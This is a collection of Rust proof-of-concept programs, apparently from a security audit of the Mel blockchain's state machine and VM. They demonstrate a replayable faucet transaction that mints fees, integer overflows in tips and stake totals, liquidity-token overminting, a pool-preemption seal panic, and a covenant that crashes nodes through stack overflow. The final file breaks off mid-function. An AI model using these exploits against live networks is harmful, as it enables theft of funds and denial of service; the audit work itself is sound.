// B(k) = [PushI 0, Loop(3,3), PushI 1, Add, Loop(k,2), Noop, Noop, Noop]: the inner loop body (2 ops) extends beyond the outer body (3 ops).
use melvm::{opcode::OpCode::*, Covenant};
fn main() {
    for k in [0u16, 1, 2] {
        let ops = [PushI(0u8.into()), Loop(3, 3), PushI(1u8.into()), Add, Loop(k, 2), Noop, Noop, Noop];
        let cov = Covenant::from_ops(&ops);
        println!("B({k}) = {:?}\n   weight {} -> {:?}", ops, cov.weight(), cov.debug_execute(&[]));
    }
    // control: properly nested zero-iteration loop inside the outer body: [.. Loop(3,4), PushI 1, Add, Loop(0,1), Noop] -> 3
    let ops = [PushI(0u8.into()), Loop(3, 4), PushI(1u8.into()), Add, Loop(0, 1), Noop, Noop];
    println!("control {:?} -> {:?}", ops, Covenant::from_ops(&ops).debug_execute(&[]));
}
