// The one historical faucet transaction that `handle_faucet_tx` (src/state/applytx.rs) lets through on Mainnet (hash_nosigs ==
// INFLATION_BUG_TX_HASH) is also exempted from inserting the faucet dedup pseudo-coin. Nothing therefore remembers that it was applied:
// the same transaction is accepted again in the same block and in every later block, on every network. Every application
//   * (re)inserts output 0 (1001 MEL = 1_001_000_000 micro-MEL) -- the entry is overwritten, its height is refreshed, and if the coin had been spent in between
//     it would exist again;
//   * credits the transaction's fee (another 1001 MEL, backed by no input: faucets are not balance-checked) to fee_pool/tips,
//     which the block proposer collects as a spendable coin.
// Output 0 is locked by the covenant hash fixed inside the grandfathered transaction (the exploiter's address); we do not know the covenant,
// so the "spend output 0, then replay" step can only be performed by that key holder. The program shows instead that the replay
// unconditionally rewrites the coin entry (height 1 -> 2 -> 3), and uses the fee channel to show spendable new money.
// NB: `show` looks at a trial seal of a copy of the state, so on Custom02 (TIP-909 active) the printed fee_pool includes the per-block subsidy.
// The transaction is copied from the unit test `allow_buggy_mainnet_faucet` in src/state.rs.
use melstf::*;
use melstructs::*;
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;

fn unhex(s: &str) -> Vec<u8> { (0..s.len()).step_by(2).map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap()).collect() }
fn cd(v: u128, d: Denom) -> CoinData { CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }

fn exceptional_tx() -> Transaction {
    Transaction {
        kind: TxKind::Faucet,
        inputs: vec![],
        outputs: vec![CoinData {
            value: CoinValue::from_millions(1001u64),
            denom: Denom::Mel,
            covhash: "t3ew4xh2yts8j1a8vzdfpbkzzvb5gz3sn7s9jw7qc9djrph2wpg52g".parse().unwrap(),
            additional_data: vec![].into(),
        }],
        data: unhex("202fb0573b6dfe780f249bec6069bb39dbccb7ed9536c0480e20e1e29050f430").into(),
        fee: CoinValue::from_millions(1001u64),
        covenants: vec![],
        sigs: vec![],
    }
}

fn show(label: &str, u: &UnsealedState<InMemoryCas>, x: &Transaction) {
    // UnsealedState has no accessors: look at a sealed copy (the copy is thrown away)
    let peek = u.clone().seal(None);
    println!("    {label}: coin at output 0 = {:?}; fee_pool = {}",
        peek.coin(x.output_coinid(0)).map(|c| format!("{} {:?} height {}", c.coin_data.value, c.coin_data.denom, c.height)), peek.header().fee_pool);
}

fn run(name: &str, cfg: GenesisConfig) {
    println!("=== network {name} ===");
    let x = exceptional_tx();
    let action = ProposerAction { fee_multiplier_delta: 0, reward_dest: Covenant::always_true().hash() };
    let db = Database::new(InMemoryCas::default());
    let s0 = cfg.realize(&db).seal(None);
    println!("  block 0 sealed; fee_pool {} fee_multiplier {}", s0.header().fee_pool, s0.header().fee_multiplier);
    let mut u = s0.next_unsealed();
    show("block 1 before", &u, &x);
    println!("  block 1, 1st apply_tx: {:?}", u.apply_tx(&x));
    show("after 1st", &u, &x);
    println!("  block 1, 2nd apply_tx (same block): {:?}", u.apply_tx(&x));
    show("after 2nd", &u, &x);
    println!("  block 1, 3rd apply_tx (same block): {:?}", u.apply_tx(&x));
    show("after 3rd", &u, &x);
    let s1 = u.seal(Some(action));
    let r1 = CoinID::proposer_reward(s1.header().height);
    println!("  block 1 sealed: {} transaction(s) recorded in the block; coin at output 0 = {:?}", s1.transactions().count(),
        s1.coin(x.output_coinid(0)).map(|c| (c.coin_data.value, c.height)));
    println!("  block 1 proposer reward coin: {:?}   (one fee is {})", s1.coin(r1).map(|c| c.coin_data.value), x.fee);
    println!("  re-validating the sealed block 1 with apply_block on block 0: {:?}", s0.apply_block(&s1.to_block()).map(|s| s.header().height));
    let mut u = s1.next_unsealed();
    println!("  block 2, apply_tx again: {:?}", u.apply_tx(&x));
    show("after replay in block 2", &u, &x);
    let s2 = u.seal(Some(action));
    let r2 = CoinID::proposer_reward(s2.header().height);
    println!("  block 2 sealed; coin at output 0 = {:?}; proposer reward coin {:?}",
        s2.coin(x.output_coinid(0)).map(|c| (c.coin_data.value, c.height)), s2.coin(r2).map(|c| c.coin_data.value));
    let mut u = s2.next_unsealed();
    // the minted fees are real money: spend both reward coins
    let total = s2.coin(r1).unwrap().coin_data.value.0 + s2.coin(r2).unwrap().coin_data.value.0;
    let probe = Transaction { kind: TxKind::Normal, inputs: vec![r1, r2], outputs: vec![cd(total, Denom::Mel)], fee: CoinValue(0),
        covenants: vec![Covenant::always_true().to_bytes()], data: vec![].into(), sigs: vec![] };
    let min_fee = match u.clone().apply_tx(&probe) { Err(StateError::InsufficientFees(f)) => f.0, _ => 0 };
    let spend = Transaction { outputs: vec![cd(total - min_fee, Denom::Mel)], fee: CoinValue(min_fee), ..probe };
    println!("  block 3, spending the two proposer reward coins ({} MEL, fee {}): {:?}", CoinValue(total), CoinValue(min_fee), u.apply_tx(&spend));
    // output 0 itself is locked by the covenant hash fixed in the grandfathered transaction; its preimage is not known to us
    let steal = Transaction { kind: TxKind::Normal, inputs: vec![x.output_coinid(0)], outputs: vec![cd(CoinValue::from_millions(1001u64).0 - min_fee, Denom::Mel)],
        fee: CoinValue(min_fee), covenants: vec![Covenant::always_true().to_bytes()], data: vec![].into(), sigs: vec![] };
    println!("  block 3, trying to spend output 0 without the owner's covenant: {:?}", u.apply_tx(&steal));
    println!("  block 3, apply_tx of the faucet once more: {:?}", u.apply_tx(&x));
    let s3 = u.seal(None);
    println!("  block 3 sealed; coin at output 0 = {:?}; my coin = {:?}", s3.coin(x.output_coinid(0)).map(|c| (c.coin_data.value, c.height)),
        s3.coin(spend.output_coinid(0)).map(|c| c.coin_data.value));
}

fn main() {
    println!("hash_nosigs = {}", exceptional_tx().hash_nosigs());
    run("Mainnet (GenesisConfig::std_mainnet)", GenesisConfig::std_mainnet());
    run("Testnet (GenesisConfig::std_testnet)", GenesisConfig::std_testnet());
    run("Custom02", GenesisConfig { network: NetID::Custom02, init_coindata: cd(1_000_000, Denom::Mel), stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 1000 });
    // control: any other faucet transaction is deduplicated
    println!("=== control: an ordinary faucet on Custom02 ===");
    let db = Database::new(InMemoryCas::default());
    let s0 = GenesisConfig { network: NetID::Custom02, init_coindata: cd(1_000_000, Denom::Mel), stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 0 }.realize(&db).seal(None);
    let mut u = s0.next_unsealed();
    let f = Transaction { kind: TxKind::Faucet, inputs: vec![], outputs: vec![cd(5, Denom::Mel)], fee: CoinValue(0), covenants: vec![], data: vec![].into(), sigs: vec![] };
    println!("  1st: {:?}   2nd same block: {:?}", u.apply_tx(&f), u.apply_tx(&f));
    let mut u = u.seal(None).next_unsealed();
    println!("  next block: {:?}", u.apply_tx(&f));
}
