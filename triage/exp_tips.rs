// faucet-enabled networks: fees of Faucet transactions are minted, so tips can reach u128::MAX (saturating) and
// collect_proposer_action_fee's `base_fees + tips` overflows when the block is sealed with a proposer action.
use melstf::*;
use melstructs::*;
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;
fn cd(v: u128, d: Denom) -> CoinData { CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }
fn main() {
    let db = Database::new(InMemoryCas::default());
    let g = GenesisConfig { network: NetID::Custom02, init_coindata: cd(1_000_000, Denom::Mel), stakes: BTreeMap::new(), init_fee_pool: CoinValue(1 << 20), init_fee_multiplier: 0 }.realize(&db);
    let mut u = g.seal(None).next_unsealed();
    for i in 0..257u32 {
        let f = Transaction { kind: TxKind::Faucet, inputs: vec![], outputs: vec![cd(1, Denom::Mel)], fee: CoinValue(1 << 120), covenants: vec![], data: i.to_be_bytes().to_vec().into(), sigs: vec![] };
        u.apply_tx(&f).unwrap();
    }
    println!("257 faucets with fee 2^120 accepted; sealing with a proposer action ...");
    let s = u.seal(Some(ProposerAction { fee_multiplier_delta: 0, reward_dest: Covenant::always_true().hash() }));
    println!("sealed: fee_pool {:?}", s.header().fee_pool);
}
