// "at height 0 batch application and one-at-a-time application disagree":
// check_tx_validity takes the covenant environment's last_header from history[height-1]; when that is missing (only at height 0,
// i.e. the UnsealedState returned by GenesisConfig::realize before the first seal) it falls back to
// `this.clone().seal(None).header()` - the header of the state the transactions are being applied TO. In a batch every member
// sees the pre-batch state; one at a time the second transaction sees a state that already contains the first one.
//
// K = "field 5 (transactions_hash) of the last header equals T", T = transactions_hash of an empty height-0 block:
//     [PushI(T), PushI(5), LoadImm(10 = HADDR_LAST_HEADER), VRef, BtoI, Eql]
use ethnum::U256;
use melstf::*;
use melstructs::*;
use melvm::{opcode::OpCode, Covenant};
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;

fn short<T: std::fmt::Debug>(r: &Result<(), T>) -> String {
    match r {
        Ok(()) => "Ok(())".into(),
        Err(e) => format!("Err({:?})", e),
    }
}

fn main() {
    let db = Database::new(InMemoryCas::default());
    let mk = |covhash: Address| GenesisConfig {
        network: NetID::Custom02,
        init_coindata: CoinData { covhash, value: CoinValue(3_000_000_000), denom: Denom::Mel, additional_data: vec![].into() },
        stakes: BTreeMap::new(),
        init_fee_pool: CoinValue(0),
        init_fee_multiplier: 1000,
    };
    // transactions_hash of an empty height-0 block (does not depend on the genesis coin)
    let t_empty = mk(Covenant::always_true().hash()).realize(&db).seal(None).header().transactions_hash;
    let k = Covenant::from_ops(&[
        OpCode::PushI(U256::from_be_bytes(t_empty.0)),
        OpCode::PushI(U256::from(5u8)),
        OpCode::LoadImm(10), // HADDR_LAST_HEADER (lib/melvm/src/consts.rs; the module is private)
        OpCode::VRef,
        OpCode::BtoI,
        OpCode::Eql,
    ]);
    println!("T (transactions_hash of an empty block) = {}", t_empty);
    println!("K.hash() = {}", k.hash());

    let s0 = mk(k.hash()).realize(&db);
    println!("height-0 state: empty-block header transactions_hash == T ? {}", s0.clone().seal(None).header().transactions_hash == t_empty);

    let tx = |input: CoinID, value: u128| Transaction {
        kind: TxKind::Normal,
        inputs: vec![input],
        outputs: vec![CoinData { covhash: k.hash(), value: CoinValue(value), denom: Denom::Mel, additional_data: vec![].into() }],
        fee: CoinValue(1_000_000_000),
        covenants: vec![k.to_bytes()],
        data: vec![].into(),
        sigs: vec![],
    };
    let tx1 = tx(CoinID::zero_zero(), 2_000_000_000);
    let tx2 = tx(tx1.output_coinid(0), 1_000_000_000);

    let both_ways = |label: &str, s: &UnsealedState<InMemoryCas>| -> (bool, bool) {
        let mut batch = s.clone();
        let rb = batch.apply_tx_batch(&[tx1.clone(), tx2.clone()]);
        let mut batch_rev = s.clone();
        let rbr = batch_rev.apply_tx_batch(&[tx2.clone(), tx1.clone()]);
        let mut seq = s.clone();
        let r1 = seq.apply_tx(&tx1);
        let hdr_after_tx1 = seq.clone().seal(None).header();
        let r2 = seq.apply_tx(&tx2);
        println!("{}", label);
        println!("  apply_tx_batch([tx1, tx2])   : {}", short(&rb));
        println!("  apply_tx_batch([tx2, tx1])   : {}", short(&rbr));
        println!("  apply_tx(tx1)                : {}", short(&r1));
        println!("    (header of the state after tx1: height {}, transactions_hash == T ? {})", hdr_after_tx1.height, hdr_after_tx1.transactions_hash == t_empty);
        println!("  apply_tx(tx2)                : {}", short(&r2));
        let batch_ok = rb.is_ok();
        let seq_ok = r1.is_ok() && r2.is_ok();
        if batch_ok && seq_ok {
            println!("  sealed headers equal (batch vs one at a time): {}", batch.clone().seal(None).header() == seq.clone().seal(None).header());
        }
        (batch_ok, seq_ok)
    };

    let (b0, q0) = both_ways("HEIGHT 0 (GenesisConfig::realize, before the first seal)", &s0);
    let sealed0 = s0.clone().seal(None);
    println!("sealed block 0: transactions_hash == T ? {}", sealed0.header().transactions_hash == t_empty);
    let s1 = sealed0.next_unsealed();
    let (b1, q1) = both_ways("HEIGHT 1 (after seal(None) + next_unsealed; last_header = history[0])", &s1);

    println!();
    println!("height 0: batch accepted = {}, one-at-a-time accepted = {}", b0, q0);
    println!("height 1: batch accepted = {}, one-at-a-time accepted = {}", b1, q1);
    println!(
        "VERDICT: {}",
        if b0 != q0 && b1 == q1 {
            "CONFIRMED - at height 0 the same two transactions are accepted as a batch and rejected one at a time; at height 1 both ways agree"
        } else {
            "NOT REPRODUCED"
        }
    );
}
