// faucet-enabled networks: SYM can be minted, so registered stakes can add up past u128::MAX; StakeSet::total_votes summed them with a
// plain `.sum()`, which SealedState::confirm evaluates for the block's epoch (and post_tip911 for the TIP-911 commitment).
use melstf::*;
use melstructs::*;
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;
fn cd(v: u128, d: Denom) -> CoinData { CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }
fn main() {
    let db = Database::new(InMemoryCas::default());
    let g = GenesisConfig { network: NetID::Custom02, init_coindata: cd(1_000_000, Denom::Mel), stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 0 }.realize(&db);
    let mut u = g.seal(None).next_unsealed();
    let (pk, _sk) = tmelcrypt::ed25519_keygen();
    for i in 0..257u32 {
        let f = Transaction { kind: TxKind::Faucet, inputs: vec![], outputs: vec![cd(1 << 120, Denom::Sym), cd(10, Denom::Mel)], fee: CoinValue(0), covenants: vec![], data: i.to_be_bytes().to_vec().into(), sigs: vec![] };
        u.apply_tx(&f).unwrap();
        let doc = StakeDoc { pubkey: pk, e_start: 1, e_post_end: 3, syms_staked: CoinValue(1 << 120) };
        let s = Transaction { kind: TxKind::Stake, inputs: vec![f.output_coinid(0), f.output_coinid(1)], outputs: vec![cd(1 << 120, Denom::Sym)], fee: CoinValue(10),
                              covenants: vec![Covenant::always_true().to_bytes()], data: stdcode::serialize(&doc).unwrap().into(), sigs: vec![] };
        u.apply_tx(&s).unwrap();
    }
    let s = u.seal(None);
    println!("257 stakes of 2^120 SYM registered and sealed; summing the voting power of epoch 1 as SealedState::confirm does for a block of that epoch ...");
    println!("total votes in epoch 1: {}", s.raw_stakes().total_votes(1));
}
