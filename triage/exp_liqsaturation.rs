use std::collections::BTreeMap;
use melstf::{GenesisConfig, SealedState};
use melstructs::{CoinData, CoinDataHeight, CoinID, CoinValue, Denom, NetID, PoolKey, Transaction, TxKind};
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};

const FEE: u128 = 10_000;
const BIG: u128 = 1 << 120;

fn coin(denom: Denom, value: u128) -> CoinData {
    CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(value), denom, additional_data: vec![].into() }
}
fn tx(kind: TxKind, inputs: Vec<CoinID>, outputs: Vec<CoinData>, data: Vec<u8>) -> Transaction {
    Transaction { kind, inputs, outputs, fee: CoinValue(FEE), covenants: vec![Covenant::always_true().to_bytes()], data: data.into(), sigs: vec![] }
}
fn coins_of_denom(sealed: &SealedState<InMemoryCas>, denom: Denom) -> Vec<u128> {
    sealed.raw_coins_smt().iter()
        .filter_map(|(_, v)| stdcode::deserialize::<CoinDataHeight>(&v).ok())
        .filter(|cdh| cdh.coin_data.denom == denom)
        .map(|cdh| cdh.coin_data.value.0).collect()
}

#[test]
fn saturation() {
    let db = Database::new(InMemoryCas::default());
    let genesis = GenesisConfig {
        network: NetID::Mainnet,
        init_coindata: coin(Denom::Mel, 1_000_000_000),
        stakes: BTreeMap::new(),
        init_fee_pool: CoinValue(0),
        init_fee_multiplier: 1,
    };
    let sealed0 = genesis.realize(&db).seal(None);
    // block 1: split mel
    let split = tx(TxKind::Normal, vec![CoinID::zero_zero()],
        vec![coin(Denom::Mel, FEE), coin(Denom::Mel, FEE), coin(Denom::Mel, FEE), coin(Denom::Mel, FEE), coin(Denom::Mel, 1_000_000_000 - 5*FEE)], vec![]);
    let mut b = sealed0.next_unsealed();
    b.apply_tx(&split).unwrap();
    let s1 = b.seal(None);
    let mint = |i: u8| tx(TxKind::Normal, vec![split.output_coinid(i)],
        vec![coin(Denom::NewCustom, BIG), coin(Denom::NewCustom, BIG), coin(Denom::NewCustom, 1), coin(Denom::NewCustom, 65536)], vec![i]);
    let m0 = mint(0); let m1 = mint(1);
    let mut b = s1.next_unsealed();
    b.apply_tx_batch(&[m0.clone(), m1.clone()]).unwrap();
    let s2 = b.seal(None);
    let key = PoolKey::new(Denom::Custom(m0.hash_nosigs()), Denom::Custom(m1.hash_nosigs()));
    let (ml, mr) = if key.left() == Denom::Custom(m0.hash_nosigs()) { (m0.clone(), m1.clone()) } else { (m1.clone(), m0.clone()) };
    let d1 = tx(TxKind::LiqDeposit, vec![ml.output_coinid(0), mr.output_coinid(2), split.output_coinid(2)],
        vec![coin(key.left(), BIG), coin(key.right(), 1)], key.to_bytes().to_vec());
    let mut b = s2.next_unsealed();
    b.apply_tx(&d1).unwrap();
    let s3 = b.seal(None);
    println!("after d1: {:?} coins {:?}", s3.pool(key), coins_of_denom(&s3, key.liq_token_denom()));
    let d2 = tx(TxKind::LiqDeposit, vec![ml.output_coinid(1), mr.output_coinid(3), split.output_coinid(3)],
        vec![coin(key.left(), BIG), coin(key.right(), 65536)], key.to_bytes().to_vec());
    let mut b = s3.next_unsealed();
    b.apply_tx(&d2).unwrap();
    let s4 = b.seal(None);
    let p = s4.pool(key).unwrap();
    let held = coins_of_denom(&s4, key.liq_token_denom());
    println!("after d2: {:?} coins {:?}", p, held);
    let total = held.iter().fold(num_bigint(0), |a, b| a + num_bigint(*b));
    println!("held total {} vs liqs {}", total, p.liqs);
}
fn num_bigint(x: u128) -> f64 { x as f64 }
