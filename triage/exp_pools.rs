use melstf::*;
use melstructs::*;
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;

fn genesis() -> UnsealedState<InMemoryCas> {
    let db = Database::new(InMemoryCas::default());
    GenesisConfig {
        network: NetID::Custom02,
        init_coindata: cd(1_000_000_000, Denom::Mel),
        stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 0,
    }.realize(&db)
}
fn cd(v: u128, d: Denom) -> CoinData { CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }
fn tx(kind: TxKind, inputs: Vec<CoinID>, outputs: Vec<CoinData>, fee: u128, data: Vec<u8>) -> Transaction {
    Transaction { kind, inputs, outputs, fee: CoinValue(fee), covenants: vec![Covenant::always_true().to_bytes()], data: data.into(), sigs: vec![] }
}
fn main() {
    let which = std::env::args().nth(1).unwrap();
    let mut g = genesis().seal(None).next_unsealed();
    // faucet: mel + sym
    let f = tx(TxKind::Faucet, vec![], vec![cd(1_000_000, Denom::Mel), cd(1_000_000, Denom::Sym), cd(500, Denom::Mel)], 0, vec![9]);
    g.apply_tx(&f).unwrap();
    match which.as_str() {
        "depzero" => {
            let d = tx(TxKind::LiqDeposit, vec![f.output_coinid(0), f.output_coinid(1)], vec![cd(0, Denom::Mel), cd(0, Denom::Sym), cd(1_000_000, Denom::Mel), cd(1_000_000, Denom::Sym)], 0, Denom::Sym.to_bytes().to_vec());
            println!("apply: {:?}", g.apply_tx(&d));
            let _ = g.seal(None); println!("sealed fine");
        }
        "wdzero" => {
            // proper deposit first
            let d = tx(TxKind::LiqDeposit, vec![f.output_coinid(0), f.output_coinid(1)], vec![cd(1_000_000, Denom::Mel), cd(1_000_000, Denom::Sym)], 0, Denom::Sym.to_bytes().to_vec());
            g.apply_tx(&d).unwrap();
            let s = g.seal(None);
            let liq = s.coin(d.output_coinid(0)).unwrap();
            println!("liq coin: {:?} {:?}", liq.coin_data.denom, liq.coin_data.value);
            let mut g2 = s.next_unsealed();
            // split into L and 0
            let mut l0 = liq.coin_data.clone(); l0.value = CoinValue(0);
            let split = tx(TxKind::Normal, vec![d.output_coinid(0), f.output_coinid(2)], vec![liq.coin_data.clone(), l0.clone(), cd(500, Denom::Mel)], 0, vec![]);
            println!("split: {:?}", g2.apply_tx(&split));
            let w = tx(TxKind::LiqWithdraw, vec![split.output_coinid(1), split.output_coinid(2)], vec![l0], 500, Denom::Sym.to_bytes().to_vec());
            println!("withdraw-zero apply: {:?}", g2.apply_tx(&w));
            let _ = g2.seal(None); println!("sealed fine");
        }
        "drained" => {
            // create custom token + pool MEL/custom, withdraw all, then swap
            let nc = tx(TxKind::Normal, vec![f.output_coinid(0)], vec![cd(1_000_000, Denom::Mel), cd(1_000_000, Denom::NewCustom)], 0, vec![]);
            g.apply_tx(&nc).unwrap();
            let cust = Denom::Custom(nc.hash_nosigs());
            let pk = PoolKey::new(Denom::Mel, cust);
            let (l, r) = if pk.left() == Denom::Mel { (nc.output_coinid(0), nc.output_coinid(1)) } else { (nc.output_coinid(1), nc.output_coinid(0)) };
            let d = tx(TxKind::LiqDeposit, vec![l, r], vec![cd(1_000_000, pk.left()), cd(1_000_000, pk.right())], 0, pk.to_bytes().to_vec());
            println!("deposit: {:?}", g.apply_tx(&d));
            let s = g.seal(None);
            println!("pool after deposit: {:?}", s.pool(pk));
            let liq = s.coin(d.output_coinid(0)).unwrap();
            let mut g2 = s.next_unsealed();
            let w = tx(TxKind::LiqWithdraw, vec![d.output_coinid(0), f.output_coinid(2)], vec![liq.coin_data.clone()], 500, pk.to_bytes().to_vec());
            println!("withdraw all: {:?}", g2.apply_tx(&w));
            let s2 = g2.seal(None);
            println!("pool after full withdrawal: {:?}", s2.pool(pk));
            let mut g3 = s2.next_unsealed();
            let sw = tx(TxKind::Swap, vec![w.output_coinid(0)], vec![s2.coin(w.output_coinid(0)).unwrap().coin_data], 0, pk.to_bytes().to_vec());
            println!("swap apply: {:?}", g3.apply_tx(&sw));
            let _ = g3.seal(None); println!("sealed fine");
        }
        _ => {}
    }
}
