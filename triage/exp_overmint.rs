// D16: several LiqDeposits into one pool in one block: Σ isqrt(l_i)·isqrt(r_i) can exceed isqrt(Σl)·isqrt(Σr), so the liquidity
// tokens handed out exceed what the pool records.  Usage: exp_overmint <l> <r> <n>
use melstf::*;
use melstructs::*;
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;

fn genesis() -> UnsealedState<InMemoryCas> {
    let db = Database::new(InMemoryCas::default());
    GenesisConfig {
        network: NetID::Custom02,
        init_coindata: cd(1_000_000_000, Denom::Mel),
        stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 0,
    }.realize(&db)
}
fn cd(v: u128, d: Denom) -> CoinData { CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }
fn tx(kind: TxKind, inputs: Vec<CoinID>, outputs: Vec<CoinData>, fee: u128, data: Vec<u8>) -> Transaction {
    Transaction { kind, inputs, outputs, fee: CoinValue(fee), covenants: vec![Covenant::always_true().to_bytes()], data: data.into(), sigs: vec![] }
}
fn main() {
    let a: Vec<u128> = std::env::args().skip(1).map(|x| x.parse().unwrap()).collect();
    let (l, r, n) = (a[0], a[1], a[2] as usize);
    let mut g = genesis().seal(None).next_unsealed();
    // n pairs of (mel, sym) coins from a faucet
    let mut outs = vec![];
    for _ in 0..n { outs.push(cd(l, Denom::Mel)); outs.push(cd(r, Denom::Sym)); }
    let f = tx(TxKind::Faucet, vec![], outs, 0, vec![7]);
    g.apply_tx(&f).unwrap();
    let s0 = g.seal(None);
    let pk = PoolKey::new(Denom::Mel, Denom::Sym);
    let before = s0.pool(pk).unwrap();
    println!("MEL/SYM pool before: lefts {} rights {} liqs {}", before.lefts, before.rights, before.liqs);
    let mut g1 = s0.next_unsealed();
    let mut deps = vec![];
    for i in 0..n {
        let d = tx(TxKind::LiqDeposit, vec![f.output_coinid(2 * i as u8), f.output_coinid(2 * i as u8 + 1)], vec![cd(l, Denom::Mel), cd(r, Denom::Sym)], 0, Denom::Sym.to_bytes().to_vec());
        g1.apply_tx(&d).unwrap();
        deps.push(d);
    }
    let s1 = g1.seal(None);
    let after = s1.pool(pk).unwrap();
    let minted_by_pool = after.liqs - before.liqs;
    let held: u128 = deps.iter().map(|d| s1.coin(d.output_coinid(0)).unwrap().coin_data.value.0).sum();
    println!("pool after : lefts {} rights {} liqs {}  (pool minted {})", after.lefts, after.rights, after.liqs, minted_by_pool);
    println!("liquidity tokens handed to the {} depositors: {}   EXCESS over what the pool recorded: {}", n, held, held as i128 - minted_by_pool as i128);
}
