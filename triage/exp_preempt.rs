// D19: a user creates the ERG/SYM pool before TIP-902 switches it on as a built-in; create_builtins then finds it "present" and never adds
// the unowned initial liquidity; the user withdraws 100% after activation; the built-in pool has zero reserves and seal panics in process_pegging.
use melstf::*;
use melstructs::*;
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;
fn cd(v: u128, d: Denom) -> CoinData { CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }
fn tx(kind: TxKind, inputs: Vec<CoinID>, outputs: Vec<CoinData>, fee: u128, data: Vec<u8>) -> Transaction {
    Transaction { kind, inputs, outputs, fee: CoinValue(fee), covenants: vec![Covenant::always_true().to_bytes()], data: data.into(), sigs: vec![] }
}
fn main() {
    let db = Database::new(InMemoryCas::default());
    let g = GenesisConfig { network: NetID::Testnet, init_coindata: cd(1_000_000_000, Denom::Mel), stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 0 }.realize(&db);
    let s0 = g.seal(None);
    let pk = PoolKey::new(Denom::Erg, Denom::Sym);
    println!("height {} ERG/SYM pool: {:?}", s0.header().height, s0.pool(pk));
    let mut u = s0.next_unsealed();
    let f = tx(TxKind::Faucet, vec![], vec![cd(5_000, pk.left()), cd(5_000, pk.right()), cd(100, Denom::Mel), cd(100, Denom::Mel)], 0, vec![1]);
    u.apply_tx(&f).unwrap();
    let d = tx(TxKind::LiqDeposit, vec![f.output_coinid(0), f.output_coinid(1), f.output_coinid(3)], vec![cd(5_000, pk.left()), cd(5_000, pk.right())], 100, pk.to_bytes().to_vec());
    println!("deposit into ERG/SYM before TIP-902: {:?}", u.apply_tx(&d));
    let mut s = u.seal(None);
    println!("height {} ERG/SYM pool: {:?}; depositor holds {:?}", s.header().height, s.pool(pk), s.coin(d.output_coinid(0)).map(|c| c.coin_data.value));
    while s.header().height.0 < 500 {
        s = s.next_unsealed().seal(None);
    }
    println!("height {} (TIP-902 active) ERG/SYM pool: {:?}", s.header().height, s.pool(pk));
    let liq = s.coin(d.output_coinid(0)).unwrap().coin_data;
    let mut u = s.next_unsealed();
    let w = tx(TxKind::LiqWithdraw, vec![d.output_coinid(0), f.output_coinid(2)], vec![liq], 100, pk.to_bytes().to_vec());
    println!("withdraw everything: {:?}", u.apply_tx(&w));
    println!("sealing ...");
    let s2 = u.seal(None);
    println!("sealed; ERG/SYM pool now {:?}", s2.pool(pk));
    let s3 = s2.next_unsealed().seal(None);
    println!("next block sealed; ERG/SYM pool {:?}", s3.pool(pk));
}
