// melvm: `VEmpty; Loop(n,2); VEmpty; VPush` (8 bytes, weight 14n+19) builds a Value::Vector nested n deep.  Execution itself is iterative and
// succeeds; DROPPING the result (Value has no custom Drop, CatVec<Value,32> drops its elements recursively) recurses once per level and overflows
// the thread stack -> SIGABRT, not a catchable panic.  Run on a 2 MiB thread (the stack size of rayon workers).  usage: exp_vmdrop <n> [stack_bytes] [applytx|applybatch]
// with `applytx`: instead, a coin locked by that covenant is spent through melstf's UnsealedState::apply_tx (stack_bytes 0: called on the main thread;
// otherwise on a thread named 'caller' with that much stack; a one-transaction batch is not split by rayon and runs on the calling thread).
// with `applybatch`: two chained transactions spending such coins in one apply_tx_batch, called from 'caller'; the covenants then run on rayon workers.
use melvm::{opcode::OpCode, Covenant, Value};
use melstf::*;
use melstructs::*;
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;
fn depth(v: &Value) -> usize { let mut d = 0; let mut cur = v; while let Value::Vector(c) = cur { match c.get(0) { Some(x) => { d += 1; cur = x } None => break } } d }
fn main() {
    let n: u16 = std::env::args().nth(1).expect("n").parse().unwrap();
    let stack: usize = std::env::args().nth(2).map(|s| s.parse().unwrap()).unwrap_or(2 << 20);
    let cov = Covenant::from_ops(&[OpCode::VEmpty, OpCode::Loop(n, 2), OpCode::VEmpty, OpCode::VPush]);
    let bytes = cov.to_bytes();
    let cov = Covenant::from_bytes(&bytes).unwrap(); // as it would arrive in a transaction
    println!("n={n}: covenant {} bytes ({}), weight {}, thread stack {} bytes, {} build", bytes.len(), hex(&bytes), cov.weight(), stack, if cfg!(debug_assertions) { "debug" } else { "release" });
    let mode = std::env::args().nth(3).unwrap_or_default();
    if mode == "applytx" || mode == "applybatch" {
        let cd = |v: u128| CoinData { covhash: cov.hash(), value: CoinValue(v), denom: Denom::Mel, additional_data: vec![].into() };
        let db = Database::new(InMemoryCas::default());
        let mut g = GenesisConfig { network: NetID::Custom02, init_coindata: cd(1_000_000_000), stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 1 << 16 }.realize(&db).seal(None).next_unsealed();
